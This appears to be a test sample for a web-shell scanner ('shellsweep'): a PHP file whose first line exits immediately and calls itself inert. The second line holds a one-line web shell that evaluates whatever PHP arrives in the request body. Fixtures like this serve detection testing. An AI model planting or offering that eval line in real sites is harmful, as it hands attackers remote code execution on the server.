<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php @eval(file_get_contents('php://input')); ?>
